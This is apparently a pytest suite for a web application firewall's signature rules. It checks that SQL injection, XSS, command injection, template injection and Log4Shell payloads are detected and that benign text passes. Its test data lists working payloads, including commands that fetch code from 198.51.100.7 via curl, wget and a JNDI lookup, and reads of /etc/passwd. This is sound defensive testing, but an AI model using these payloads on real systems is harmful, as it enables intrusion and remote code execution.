"""The signature pack and its engine: every rule finds its attack and lets its benign twin pass."""

from pathlib import Path
from types import SimpleNamespace

import orjson
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from addons.addon import Facts
from addons.exchange import Exchange, Phase, Request
from addons.finding import Effect, Finding, Severity
from addons.signatures import RuleSet, Signatures, SignaturesSettings, load_pack, parse
from addons.signatures import operators as operators_module
from gateway.policy.cache import DiskCache
from tests.gatewayproc import RULE_CACHE

FOLDER = Path(__file__).parent.parent / "cases/signatures"
ATTACKS = yaml.safe_load((FOLDER / "attacks.yaml").read_text())
BENIGN = yaml.safe_load((FOLDER / "benign.yaml").read_text())
JSON = (b"content-type", b"application/json")


def quoted(text: str) -> bytes:
    return "".join(f"%{byte:02x}" for byte in text.encode()).encode()


def request(text: str, place: str = "query") -> Request:
    if place == "query":
        return Request("GET", b"/", b"q=" + quoted(text))
    if place == "name":
        return Request("GET", b"/", quoted(text) + b"=1")
    if place == "path":
        return Request("GET", text.encode())
    if place == "cookie":
        return Request("GET", b"/", headers=((b"cookie", b"c=" + quoted(text)),))
    if place == "file":
        part = f'--B\r\nContent-Disposition: form-data; name="f"; filename="{text}"\r\n\r\nx\r\n--B--'
        return Request(
            "POST", b"/", headers=((b"content-type", b"multipart/form-data; boundary=B"),), body=part.encode()
        )
    if place.startswith("upload"):  # a picture, by what it says
        content = text.encode(place.removeprefix("upload").removeprefix("-") or "utf-8")
        head = b'--B\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
        multipart = (b"content-type", b"multipart/form-data; boundary=B")
        return Request("POST", b"/", headers=(multipart,), body=head + content + b"\r\n--B--\r\n")
    if place == "xml":
        return Request("POST", b"/", headers=((b"content-type", b"application/xml"),), body=text.encode())
    if place.startswith("header:"):
        return Request("GET", b"/", headers=((place[7:].encode(), text.encode()),))
    if place == "document":
        return Request("POST", b"/", headers=(JSON,), body=text.encode())
    assert place == "json", f"unknown place {place!r}"
    return Request("POST", b"/", headers=(JSON,), body=orjson.dumps({"q": text}))


def inspect(signatures: Signatures, what: Request) -> list[Finding]:
    exchange = Exchange("1", what, operation="GET /")
    return [f for phase in sorted(signatures.phases) for f in signatures.inspect(exchange, phase, Facts())]


def points(findings: list[Finding]) -> int:
    return sum(f.severity for f in findings if f.effect is Effect.SCORE)


@pytest.mark.parametrize("case", ATTACKS, ids=[f"{case['rule']}: {case['attack']}"[:60] for case in ATTACKS])
def test_a_rule_finds_its_attack_and_passes_its_benign_twin(pack, case):
    assert set(case) <= {"rule", "attack", "benign", "place"}
    signatures, place = Signatures(pack), case.get("place", "query")
    found = inspect(signatures, request(case["attack"], place))
    assert str(case["rule"]) in {f.rule for f in found}
    assert points(found) >= 5
    assert [f.rule for f in inspect(signatures, request(case["benign"], place))] == []


@pytest.mark.parametrize("text", BENIGN)
@pytest.mark.parametrize("place", ["query", "json", "cookie"])
def test_what_apis_carry_all_day_is_not_blocked(pack, text, place):
    found = inspect(Signatures(pack), request(text, place))
    assert points(found) < 5, [(f.rule, f.evidence) for f in found]


def test_the_pack_holds_one_case_at_least_for_nearly_every_rule(pack):
    tested = {str(case["rule"]) for case in ATTACKS}
    untested = {rule.id for rule in pack.rules} - tested
    assert untested == {"41300", "42180", "42190", "42300", "43120", "43155", "45105", "47115", "47130", "47140", "47145",
                        "48130", "48140", "48145", "49110", "49120"}  # fmt: skip


@pytest.mark.parametrize(
    "case", [c for c in ATTACKS if c.get("place", "query") == "query"], ids=lambda c: c["attack"][:40]
)
def test_encoding_an_attack_once_more_does_not_hide_it(pack, case):
    signatures = Signatures(pack)
    again = quoted(quoted(case["attack"]).decode())
    assert points(inspect(signatures, Request("GET", b"/", b"q=" + again))) >= 5


def test_phases_look_at_their_own_part_only(pack):
    signatures = Signatures(pack)
    what = Request("POST", b"/", b"q=<script>", (JSON,), b'{"q":"../../etc/passwd"}')
    exchange = Exchange("1", what)
    head = {f.location for f in signatures.inspect(exchange, Phase.REQUEST_HEADERS, Facts())}
    body = {f.location for f in signatures.inspect(exchange, Phase.REQUEST_BODY, Facts())}
    assert head == {"query:q"}
    assert body == {"json:/q"}


def test_a_finding_says_rule_place_and_redacted_evidence(pack):
    found = inspect(Signatures(pack), request("ana@example.com' or '1'='1"))
    first = next(f for f in found if f.rule == "41100")
    assert (first.detector, first.severity, first.location) == ("signatures", Severity.CRITICAL, "query:q")
    assert "attack-sqli" in first.tags
    assert "ana@" not in first.evidence
    assert "' or " in first.evidence


def test_evidence_from_a_password_is_masked_whole(pack):
    found = inspect(Signatures(pack), Request("GET", b"/", b"password=" + quoted("x' or 1=1--")))
    assert found
    assert all("1=1" not in f.evidence for f in found)


def exclusion(**given: str) -> SimpleNamespace:
    return SimpleNamespace(**{"rule": "", "tag": "", "operation": "", "parameter": "", **given})


@pytest.mark.parametrize(
    "given",
    [{"rule": "42100"}, {"tag": "attack-xss"}, {"parameter": "q"}, {"parameter": "query:q"}, {"operation": "GET /"},
     {"rule": "42100", "operation": "GET /", "parameter": "q"}],
)  # fmt: skip
def test_an_exclusion_suppresses_what_it_names(pack, given):
    found = inspect(Signatures(pack, exclusions=[exclusion(**given)]), request("<script>"))
    assert "42100" not in {f.rule for f in found}


@pytest.mark.parametrize(
    "given",
    [
        {"rule": "41100"},
        {"tag": "attack-sqli"},
        {"parameter": "p"},
        {"operation": "POST /"},
        {"rule": "42100", "parameter": "p"},
    ],
)
def test_an_exclusion_suppresses_nothing_else(pack, given):
    found = inspect(Signatures(pack, exclusions=[exclusion(**given)]), request("<script>"))
    assert "42100" in {f.rule for f in found}


SHOWN = [
    (
        "When I paste `<script>alert(1)</script>` and then `' or 1=1 --` into the box, the server shows `{{7*7}}` to me as well, "
        "which is not what our users expect of the editor."
    ),
    "Steps to reproduce what we saw on the staging machine this morning:\n\n```\n<script>alert(1)</script>\n; cat /etc/passwd\n```\n",
    "Somebody wrote <script> and ' or 1=1 where the name of the street belongs, please have a look at it.",
]


@pytest.mark.parametrize("text", SHOWN)
def test_an_attack_that_text_shows_as_code_or_that_would_not_work_there_never_adds_up_to_a_block(pack, text):
    found = inspect(Signatures(pack), request(text, "json"))
    assert len(found) >= 2
    assert points(found) == 2 * Severity.NOTICE
    assert points(inspect(Signatures(pack, SignaturesSettings(free_text="full")), request(text, "json"))) >= 10


WORKING = [
    "x' or 1=1 -- ", "x' union select login, pw from members -- ", "x'; drop table invoices -- ", 'x" or "a"="a',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:go(1)'>here</a>", "; cat /etc/passwd",
    "$(curl http://198.51.100.7/x)", "| wget http://198.51.100.7/x", "{{7*7}}", "${jndi:ldap://198.51.100.7/a}",
]  # fmt: skip
SAID = (
    "Thank you so much for the quick delivery of both parcels, we are all very happy with them ",
    "Dear team,\n\nwe would like to change the order of last week.\n\nPlease call us back.\n\nKind regards from all of us here\n",
    "Das Paket kam gestern an und alle waren sehr zufrieden damit, vielen Dank auch an den Fahrer ",
)


@pytest.mark.parametrize("attack", WORKING)
@pytest.mark.parametrize("said", SAID)
def test_words_around_an_attack_do_not_lower_it(pack, attack, said):
    """What stands before a way out, and behind a comment or a closed tag, is nothing to the interpreter."""
    behind = said if attack.endswith(("-- ", ">", "}", "/x")) else ""
    found = inspect(Signatures(pack), request(f"{said}{attack} {behind}", "json"))
    assert points(found) >= 5, [(f.rule, f.severity) for f in found]


@pytest.mark.parametrize("level", [0, 5])
def test_a_paranoia_level_that_is_none_is_refused(pack, level):
    with pytest.raises(ValueError, match=r"paranoia_level: .* must be 1 to 4"):
        Signatures(pack, SignaturesSettings(paranoia_level=level))


def test_rules_of_a_higher_paranoia_level_wait_for_it():
    rules = RuleSet(parse('SecRule ARGS "@rx ^odd$" "id:1,phase:2,block,tag:\'paranoia-level/3\'"', "x.conf"))
    for level, count in ((1, 0), (2, 0), (3, 1), (4, 1)):
        assert len(inspect(Signatures(rules, SignaturesSettings(paranoia_level=level)), request("odd"))) == count


def test_without_libinjection_the_regex_rules_stand_alone(pack, monkeypatch):
    monkeypatch.setattr(operators_module, "libinjection", None)
    assert operators_module.native_missing() != []
    found = {f.rule for f in inspect(Signatures(load_pack(cache=DiskCache(RULE_CACHE))), request("bob' or 5=5"))}
    assert "41100" in found
    assert "41300" not in found


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300), st.binary(max_size=300))
def test_no_bytes_make_it_fail(pack_for_property, query, body):
    inspect(pack_for_property, Request("POST", query[:50], query, ((b"x-a", body[:60]), JSON), body))


@pytest.fixture(scope="module")
def pack_for_property(pack) -> Signatures:
    return Signatures(pack)


def test_the_first_scan_finds_in_joined_values_all_that_it_finds_in_each(pack):
    """Of every two attacks. An expression that the scanner loses behind another one must be written otherwise."""
    matcher, _ = pack._first[1]
    texts = [case["attack"].encode() for case in ATTACKS]
    alone = {text: {at for at, _ in matcher.scan(text)} for text in texts}
    lost = {
        (first, second, pack.rules[at].id)
        for first in texts
        for second in texts
        for at in (alone[first] | alone[second]) - {at for at, _ in matcher.scan(first + b"\n" + second)}
    }
    assert lost == set()


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([c["attack"] for c in ATTACKS] + BENIGN[:8]), min_size=1, max_size=5))
def test_a_value_is_judged_the_same_among_others_as_alone(pack_for_property, texts):
    """The first scan joins all values; that must neither hide a match nor invent one."""
    alone = set()
    for text in texts:
        alone |= {f.rule for f in inspect(pack_for_property, Request("GET", b"/", b"q=" + quoted(text)))}
    query = b"&".join(b"q%d=" % number + quoted(text) for number, text in enumerate(texts))
    together = {f.rule for f in inspect(pack_for_property, Request("GET", b"/", query))}
    assert together == alone
